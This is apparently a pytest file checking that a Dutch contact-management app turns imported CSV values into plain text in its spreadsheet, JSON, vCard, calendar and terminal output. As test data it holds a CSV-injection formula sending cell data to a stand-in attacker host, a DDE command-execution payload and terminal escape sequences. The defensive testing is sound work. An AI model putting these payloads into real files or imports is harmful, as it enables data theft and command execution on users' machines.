"""Text is text: imported values never become formulas, break a writer or drive a terminal.

Each value comes in through a real import (CSV), as an attacker would send it, and goes
out through every writer the app has: the AVG .xlsx and .json, vCard, .ics, the CLI.
"""

from __future__ import annotations

import json
import zipfile
from datetime import date
from pathlib import Path
from types import SimpleNamespace

import pytest
from importing.kit import write_csv

from dealmaker.__main__ import main
from dealmaker.cli.safe_text import shown
from dealmaker.export.ics import calendar_text
from dealmaker.export.vcard import export_vcards
from dealmaker.services.importing import apply_import, plan_import
from dealmaker.services.privacy import export_person_data
from dealmaker.storage.workspace import Workspace

HEAD = ["Voornaam", "Achternaam", "Functie", "Bedrijf", "Notities"]
FORMULA = '=HYPERLINK("http://aanvaller.example/?"&A1,"Klik hier")'
DDE = "=cmd|' /C calc'!A0"
CONTROL = "Bel\x07 Piet\x1b[31m rood\x0b\x01"


def _import(ws: Workspace, tmp_path: Path, rows: list[list[str]]) -> list[str]:
    # a long ordinary row, so that a few control characters do not look like a binary file
    path = write_csv(tmp_path / "aanval.csv", [HEAD, *rows, ["Vul", "Rij", "", "", "x" * 2000]])
    result = apply_import(ws, plan_import(ws, path, on_duplicate="create"))
    assert result.created == len(rows) + 1
    return result.person_ids[:-1]


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode() for n in z.namelist()
                       if n.startswith("xl/worksheets/"))


def test_avg_export_writes_formula_text_as_text(workspace: Workspace, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    [pid] = _import(workspace, tmp_path, [[DDE, "Jansen", "@SUM(A1)", "-2+3", FORMULA]])
    xlsx, js = tmp_path / "inzage.xlsx", tmp_path / "inzage.json"
    export_person_data(workspace, pid, xlsx, js)
    assert "<f>" not in _sheet_xml(xlsx)  # no formula anywhere in the workbook
    book = load_workbook(xlsx)  # not data_only: a formula would show as data_type "f"
    cells = {c.value: c for ws in book.worksheets for row in ws.iter_rows() for c in row}
    for text in (DDE, FORMULA, "@SUM(A1)", "-2+3"):
        assert cells[text].data_type == "s", text
        assert cells[text].quotePrefix, text  # Excel keeps it text after F2 + Enter too
    facts = json.loads(js.read_text(encoding="utf-8"))["gegevens"]["Persoon"]
    assert {"Gegeven": "Voornaam", "Waarde": DDE} in facts


def test_control_characters_do_not_break_the_avg_export(workspace: Workspace,
                                                        tmp_path: Path) -> None:
    from openpyxl import load_workbook

    [pid] = _import(workspace, tmp_path, [["Anna", "de Vries", CONTROL, "", CONTROL]])
    xlsx, js = tmp_path / "inzage.xlsx", tmp_path / "inzage.json"
    export_person_data(workspace, pid, xlsx, js)  # raised IllegalCharacterError before
    texts = [c.value for ws in load_workbook(xlsx).worksheets for row in ws.iter_rows()
             for c in row if isinstance(c.value, str)]
    assert any("Bel␇ Piet␛[31m rood" in t for t in texts), texts  # visible, not lost
    # the JSON keeps the exact text (JSON escapes control characters itself)
    data = json.loads(js.read_text(encoding="utf-8"))
    assert any(CONTROL in str(v) for row in data["gegevens"]["Persoon"] for v in row.values())


def test_vcard_export_has_no_control_characters(workspace: Workspace, tmp_path: Path) -> None:
    ids = _import(workspace, tmp_path, [["Anna", "de Vries", CONTROL, "", "regel1\nregel2"]])
    out = tmp_path / "uit.vcf"
    export_vcards(workspace, ids, out)
    text = out.read_text(encoding="utf-8")
    assert not any(ord(c) < 32 and c not in "\t\r\n" for c in text)
    assert "\x1b" not in text and "NOTE:regel1\\nregel2" in text


def test_ics_text_has_no_control_characters() -> None:
    row = SimpleNamespace(interaction_id="x", follow_up_on=date(2026, 1, 5), action=CONTROL,
                          summary="a\x1b[2Jb", occurred_on=date(2026, 1, 1),
                          participants_text="Piet\x07", deals_text="")
    text = calendar_text([row])
    assert not any(ord(c) < 32 and c not in "\t\r\n" for c in text)
    assert "\x1b" not in text


def test_terminal_shows_escapes_not_raw_codes(workspace_path: Path, tmp_path: Path,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    path = write_csv(tmp_path / "lijst\x1b[2J.csv", [
        ["Voornaam", "Achternaam", "E-mailadres"], ["Eva", "Smit", "eva\x1b]8;;http://x\x07@x"],
        ["Tom", "Wit\u202e", "tom@ede.example"]])
    assert main(["import", "--db", str(workspace_path), str(path), "--only-valid"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out
    assert "\\x1b]8;;http://x\\x07@x" in out and "lijst\\x1b[2J.csv" in out
    assert main(["import", "--db", str(workspace_path), str(tmp_path / "nee\x1b[0m.csv")]) == 1
    err = capsys.readouterr().err
    assert "\x1b" not in err and "nee\\x1b[0m.csv" in err


def test_shown_keeps_ordinary_text() -> None:
    assert shown("Zoë Öztürk-van 't Hof 😀 € 1.234,56") == "Zoë Öztürk-van 't Hof 😀 € 1.234,56"
    assert shown("a\r\nb\tc\x9bd\u202ee") == "a\\r\\nb\\tc\\x9bd\\u202ee"
